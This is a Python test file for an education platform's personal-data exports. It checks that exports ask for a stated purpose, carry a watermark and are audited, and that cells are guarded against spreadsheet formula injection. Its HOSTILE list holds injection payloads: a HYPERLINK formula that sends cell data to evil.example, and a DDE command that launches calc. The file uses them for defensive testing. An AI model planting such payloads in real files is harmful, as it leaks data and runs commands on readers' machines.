"""Exports of personal data: a stated purpose, a watermark, an audit entry; and no formula injection
in any exported spreadsheet (read back from files made by the real export views)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from python_calamine import CalamineWorkbook

from eduplatform.core import spreadsheets
from eduplatform.history.models import AuditAction, AuditEntry
from eduplatform.staff import services as staff_services
from eduplatform.students import services as student_services
from tests.staff_support import admin_row
from tests.students_support import student_row

TODAY = dt.date(2026, 3, 2)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def login(client, world, key: str):
    client.force_login(world.user(key))
    return client


def rows_of(content: bytes) -> list[list[str]]:
    with CalamineWorkbook.from_filelike(io.BytesIO(content)) as book:
        return book.get_sheet_by_index(0).to_python()


def quoted_cells(content: bytes) -> dict[str, bool]:
    """Each text cell's value → whether its style carries Excel's quote prefix (read from the XML)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        styles = _xml(z.read("xl/styles.xml"))
        quoted_style = [xf.get("quotePrefix") == "1" for xf in styles.find("m:cellXfs", NS)]
        shared = ([_text(si) for si in _xml(z.read("xl/sharedStrings.xml"))]
                  if "xl/sharedStrings.xml" in z.namelist() else [])
        sheet = _xml(z.read("xl/worksheets/sheet1.xml"))
    found: dict[str, bool] = {}
    for c in sheet.iter(f"{{{NS['m']}}}c"):
        if c.get("t") == "s":
            value = shared[int(c.find("m:v", NS).text)]
        elif c.get("t") == "inlineStr":  # the streaming (constant-memory) writer's strings
            value = _text(c.find("m:is", NS))
        else:
            continue
        found[value] = quoted_style[int(c.get("s", "0"))]
    return found


def _xml(data: bytes):
    return ElementTree.fromstring(data)  # noqa: S314 — a file this test's own export wrote


def _text(node) -> str:
    return "".join(t.text or "" for t in node.iter(f"{{{NS['m']}}}t"))


def test_a_student_list_export_asks_for_a_purpose_and_refuses_a_blank_one(client, world):
    student_services.enrol_student(actor=world.user("clerk_a1"), school=world.school_a1, data=student_row(1),
                                   today=TODAY)
    login(client, world, "clerk_a1")
    asked = client.get("/students/", {"format": "xlsx", "grade": "1"})
    assert asked.status_code == 200 and not asked["Content-Type"].startswith(spreadsheets.XLSX_TYPE)
    page = asked.content.decode()
    assert "导出用途" in page and 'name="grade" value="1"' in page and 'name="format" value="xlsx"' in page
    refused = client.get("/students/", {"format": "xlsx", "purpose": "  "})
    assert refused.status_code == 400 and "须填写导出用途" in refused.content.decode()
    assert not AuditEntry.objects.filter(action=AuditAction.EXPORT).exists()


def test_a_student_list_export_is_watermarked_and_audited_with_its_purpose(client, world):
    student_services.enrol_student(actor=world.user("clerk_a1"), school=world.school_a1, data=student_row(1),
                                   today=TODAY)
    clerk = world.user("clerk_a1")
    response = login(client, world, "clerk_a1").get("/students/", {"format": "xlsx", "purpose": "核对本校秋季学期名单"})
    assert response["Content-Type"].startswith(spreadsheets.XLSX_TYPE)
    assert rows_of(response.content)[1][1] == student_row(1)["name"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        core_props = z.read("docProps/core.xml").decode()
        custom = z.read("docProps/custom.xml").decode()
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert clerk.audit_name() in core_props and "核对本校秋季学期名单" in core_props
    assert clerk.organization.name in custom and "核对本校秋季学期名单" in custom
    assert re.search(r"导出时间</vt:lpwstr>|<vt:lpwstr>\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}</vt:lpwstr>", custom)
    header = re.search(r"<oddHeader>(.*?)</oddHeader>", sheet).group(1)
    assert clerk.audit_name() in header and clerk.organization.name in header and "用途" in header
    audit = AuditEntry.objects.get(action=AuditAction.EXPORT, actor_id=clerk.pk)
    assert "导出用途：核对本校秋季学期名单" in audit.note and "purpose" not in audit.note


def test_staff_and_administrator_exports_need_a_purpose_too(client, world):
    login(client, world, "county_a_stat")
    for url in ("/staff/", "/staff/administrators/"):
        assert not client.get(url, {"format": "xlsx"})["Content-Type"].startswith(spreadsheets.XLSX_TYPE)
        done = client.get(url, {"format": "xlsx", "purpose": "编制核查用"})
        assert done["Content-Type"].startswith(spreadsheets.XLSX_TYPE), url


def test_hostile_cells_come_back_as_quoted_text_from_a_real_export(client, world):
    county = world.user("county_a_stat")
    for seq, value in enumerate(HOSTILE, start=1):
        staff_services.hire(actor=county, unit=world.county_a, data=admin_row(seq, department=value[:50],
                                                                                duties=value))
    response = login(client, world, "county_a_stat").get("/staff/administrators/",
                                                          {"format": "xlsx", "purpose": "注入测试"})
    assert response["Content-Type"].startswith(spreadsheets.XLSX_TYPE)
    quoted = quoted_cells(response.content)
    stored = {v for v in quoted}
    for value in HOSTILE:
        # Written as a string cell (never a formula), flagged so Excel keeps it text when edited.
        assert value.strip() in {s.strip() for s in stored}, value
        assert all(q for s, q in quoted.items() if s.strip() == value.strip()), value
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()  # no formula cell at all
    assert quoted["科长"] is False  # ordinary text is left alone


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_would_start_a_formula_get_an_apostrophe(value):
    content = spreadsheets.csv_bytes(["名称", "数"], [[value, -5], ["普通", 3]], trailer=["=说明"])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1] == ["'" + value, "-5"]  # numbers stay numbers (a negative count is not a formula)
    assert rows[2] == ["普通", "3"] and rows[-1] == ["'=说明"]


def test_a_hostile_value_in_an_upload_is_quoted_in_the_import_problem_report():
    from eduplatform.core.imports import problems_xlsx

    content = problems_xlsx([{"row": 2, "column": "姓名", "value": "=HYPERLINK(\"x\")", "message": "不合规"}],
                            title="导入错误")
    assert quoted_cells(content)["=HYPERLINK(\"x\")"] is True


def test_a_background_export_of_pupils_keeps_purpose_and_watermark_and_its_download_is_audited(client, world,
                                                                                               settings):
    from eduplatform.core import exports
    from eduplatform.core.models import ExportJob

    for seq in (1, 2, 3):
        student_services.enrol_student(actor=world.user("clerk_a1"), school=world.school_a1, data=student_row(seq),
                                       today=TODAY)
    settings.EXPORT_BACKGROUND_ROWS = 1
    login(client, world, "clerk_a1").get("/students/", {"format": "xlsx", "purpose": "转学核对"})
    job = exports.run_export(ExportJob.objects.get().pk)  # the worker replays the request, purpose included
    download = client.get(f"/exports/{job.pk}/download/")
    assert len(rows_of(download.content)) == 4
    with zipfile.ZipFile(io.BytesIO(download.content)) as z:
        assert "转学核对" in z.read("docProps/custom.xml").decode()
    notes = list(AuditEntry.objects.filter(action=AuditAction.EXPORT).values_list("object_type", "note"))
    assert any(t == "students.student" and "导出用途：转学核对" in n for t, n in notes)
    assert any(t == "core.exportjob" and "下载后台导出文件" in n for t, n in notes)
